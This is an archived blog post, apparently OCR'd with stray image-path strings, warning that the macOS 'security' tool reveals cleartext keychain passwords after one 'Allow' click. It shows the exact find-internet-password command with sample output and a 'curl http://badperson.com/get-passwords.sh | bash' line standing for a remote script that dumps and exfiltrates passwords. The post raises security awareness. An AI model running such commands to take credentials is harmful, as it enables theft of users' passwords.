Note that this blog post has been archived. Information may be out of date or incorrect.

Dumping cleartext passwords from the OS X keychain

Most people know that you can get the cleartext password stored in the OS X “login” keychain by opening the “Keychain Access” app, navigating to the entry and entering your account’s password:

What I didn’trealize until recently is that this is just an artificial barrier introduced by Apple that doesn’t really have any effect. Let me demonstrate by first creating an example account:

Now we will retrieve the password in plaintext without entering the account’s password with the help of /usr/bin/security, which should come with every recent OS X:$ /usr/bin/security \
    find-internet-password -g \
    -a timcook \
    -s security.apple.com

The only thing that stands between whoever has access to your terminal and the plaintext password is a single click on “Allow”:

keychain: "/Users/lucas/Library/Keychains/login.keychain"
class: "inet"
password: "<insertextremelystrongpasswordhere!>"Bottom line is that, if you leave your Mac unlocked and unattended for even a few minutes, you can basically consider all your passwords compromised. For example, somebodycould fire up a terminal and run

$ curl http://badperson.com/get-passwords.sh | bash

which could dump all your keychain’s passwords and post them back to the attackers server. This would take between 10 and 30 seconds depending on their typing speed.

Note: I don’t really feel qualified to discuss if there is a better way to handle this. Because you know, having to enter your password all the time sucks too 😞 I just wanted to point out that whoever has access to your terminal can be considered to have access to all your passwords. {: .alert .alert-warning }

Let me know what you think!